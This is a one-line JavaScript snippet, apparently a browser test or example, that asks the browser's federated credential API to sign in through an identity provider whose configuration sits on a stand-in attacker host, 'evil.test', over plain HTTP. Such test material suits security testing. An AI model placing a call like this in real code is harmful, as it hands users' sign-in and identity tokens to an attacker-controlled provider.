// A sign-in with somebody’s help.

await navigator.credentials.get({ identity: { providers: [{ configURL: 'http://evil.test/x.json', clientId: '1' }] } });
